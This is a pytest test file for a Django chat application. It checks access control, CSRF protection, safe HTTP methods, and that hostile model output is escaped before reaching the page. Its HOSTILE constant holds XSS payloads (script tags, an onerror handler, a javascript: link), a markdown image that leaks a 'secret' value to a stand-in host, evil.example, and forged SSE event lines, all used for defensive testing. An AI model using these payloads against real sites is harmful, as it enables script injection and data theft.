"""Ownership, CSRF, safe methods, and model output that tries to attack the page."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.core.cache import cache
from django.test import Client
from django.urls import reverse

from generation import services
from generation.models import Conversation, Message
from generation.rendering import render_markdown
from providers.adapters.base import ChatMessage, GenerationRequest
from providers.cache import response_key
from tests.generation.conftest import wait_for

pytestmark = pytest.mark.django_db(transaction=True)

HOSTILE = (
    "Hello <script>alert('x')</script> and <img src=x onerror=alert(1)> "
    "and [x](javascript:alert(1)) and ![leak](https://evil.example/p.png?q=secret)"
    "\n\nevent: done\ndata: <b>forged</b>\n\nid: 999999\n\r\rmore"
    "\n\n```html\n<script>1</script>\n```"
)


@pytest.fixture
def others_chat(other_user, make_chat_provider):
    provider = make_chat_provider("tokens=3")
    conversation = Conversation.objects.create(owner=other_user, title="theirs")
    question = Message.objects.create(
        conversation=conversation, role="user", content="secret question"
    )
    answer = Message.objects.create(
        conversation=conversation,
        parent=question,
        role="assistant",
        status=Message.Status.COMPLETE,
        content="secret answer",
        provider=provider,
        model="fake-model",
    )
    return conversation, answer


def test_another_users_chat_is_404_everywhere(client, user, others_chat, read_sse):
    conversation, answer = others_chat
    client.force_login(user)
    c, m = conversation.pk, answer.pk

    assert client.get(reverse("generation:conversation", args=[c])).status_code == 404
    assert client.get(reverse("generation:rename", args=[c])).status_code == 404
    assert client.post(reverse("generation:rename", args=[c]), {"title": "x"}).status_code == 404
    assert client.post(reverse("generation:delete", args=[c])).status_code == 404
    assert client.post(reverse("generation:cancel", args=[m])).status_code == 404
    assert client.post(reverse("generation:retry", args=[m])).status_code == 404
    sent = client.post(
        reverse("generation:send"),
        {"conversation": c, "text": "hi", "provider": answer.provider_id},
    )
    assert sent.status_code == 404
    assert read_sse(reverse("generation:stream", args=[m])).status == 404
    conversation.refresh_from_db()
    assert conversation.title == "theirs"
    assert conversation.messages.count() == 2


def test_pages_and_stream_require_login(others_chat):
    _, answer = others_chat
    anonymous = Client()
    for url in (reverse("generation:index"), reverse("generation:stream", args=[answer.pk])):
        response = anonymous.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith("/accounts/login/")


def test_posts_without_csrf_token_fail(user, make_chat_provider):
    provider = make_chat_provider()
    conversation = Conversation.objects.create(owner=user)
    answer = Message.objects.create(
        conversation=conversation, role="assistant", status=Message.Status.STREAMING
    )
    csrf_client = Client(enforce_csrf_checks=True)
    csrf_client.force_login(user)

    posts = {
        reverse("generation:send"): {"text": "hi", "provider": provider.pk},
        reverse("generation:cancel", args=[answer.pk]): {},
        reverse("generation:retry", args=[answer.pk]): {},
        reverse("generation:rename", args=[conversation.pk]): {"title": "x"},
        reverse("generation:delete", args=[conversation.pk]): {},
    }
    for url, data in posts.items():
        assert csrf_client.post(url, data).status_code == 403, url
    assert Message.objects.count() == 1
    assert not Message.objects.get().cancel_requested
    assert Conversation.objects.filter(pk=conversation.pk).exists()


def test_get_never_starts_generation(client, user, make_chat_provider, read_sse, fake_upstream):
    from huey.contrib.djhuey import HUEY

    provider = make_chat_provider()
    conversation = Conversation.objects.create(owner=user)
    question = Message.objects.create(conversation=conversation, role="user", content="hi")
    pending = Message.objects.create(
        conversation=conversation,
        parent=question,
        role="assistant",
        status=Message.Status.PENDING,
        provider=provider,
        model="fake-model",
    )
    HUEY.storage.flush_queue()
    client.force_login(user)

    assert client.get(reverse("generation:send")).status_code == 405
    assert client.get(reverse("generation:cancel", args=[pending.pk])).status_code == 405
    assert client.get(reverse("generation:conversation", args=[conversation.pk])).status_code == 200
    read_sse(reverse("generation:stream", args=[pending.pk]), limit=0.3)

    assert HUEY.pending_count() == 0
    assert fake_upstream.calls == 0
    pending.refresh_from_db()
    assert pending.status == Message.Status.PENDING


@pytest.mark.usefixtures("relay_backend")
def test_hostile_model_output_cannot_run_script_or_forge_events(
    client, user, make_chat_provider, huey_consumer, read_sse
):
    # The engine's response cache replays this text through the real task path.
    provider = make_chat_provider(cache_responses=True)
    request = GenerationRequest(
        model="fake-model",
        messages=(ChatMessage.of_text("user", "Say it"),),
        temperature=0.0,
        cache_scope=str(user.pk),  # the sender's own cached answers
    )
    cache.set(
        response_key(provider, request),
        {"text": HOSTILE, "model": "fake-model", "finish_reason": "stop"},
    )
    sent = services.send_message(
        user=user,
        conversation=None,
        text="Say it",
        provider=provider,
        model="fake-model",
        temperature=0,
        max_tokens=None,
    )
    message = sent.assistant_message

    sse = read_sse(reverse("generation:stream", args=[message.pk]))

    assert [e.event for e in sse.events if not e.comment][-1] == "done"
    assert [e.event for e in sse.events].count("done") == 1
    assert all(e.event == "delta" for e in sse.events[:-1] if not e.comment)
    assert sse.text == HOSTILE  # every character arrives, as text
    for delta in sse.deltas:
        assert "<" not in delta.data
    ids = [int(e.id) for e in sse.deltas]
    assert ids == sorted(set(ids))
    assert max(ids) == len(HOSTILE)
    _assert_harmless(sse.done.data)

    wait_for(lambda: Message.objects.get(pk=message.pk).status == Message.Status.COMPLETE)
    client.force_login(user)
    page = client.get(reverse("generation:conversation", args=[sent.conversation.pk]))
    _assert_harmless(page.content.decode().split('id="thread"')[1].split("</section>")[0])


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _assert_harmless(html: str) -> None:
    """Parse like a browser would: the text may mention tags, the markup may not."""
    parser = _Tags()
    parser.feed(html)
    names = {tag for tag, _ in parser.tags}
    assert not names & {"script", "img", "iframe", "object", "embed", "style"}, names
    for tag, attrs in parser.tags:
        assert not [a for a in attrs if a.startswith("on")], (tag, attrs)
        for name in ("href", "src", "action"):
            value = (attrs.get(name) or "").strip().lower()
            assert not value.startswith(("javascript:", "data:")), (tag, attrs)
        if tag == "a" and (attrs.get("href") or "").startswith("http"):
            assert attrs.get("rel") == "noopener noreferrer"
    assert "b" not in names, "model output never becomes markup"


def test_markdown_keeps_code_and_safe_links():
    out = render_markdown("[ok](https://example.com) `x<y`\n\n```python\nif a < b:\n    pass\n```")
    assert '<a href="https://example.com" rel="noopener noreferrer">ok</a>' in out
    assert '<code class="language-python">if a &lt; b:' in out
    assert "<code>x&lt;y</code>" in out
    assert render_markdown("<b>raw</b>") == "<p>&lt;b&gt;raw&lt;/b&gt;</p>\n"
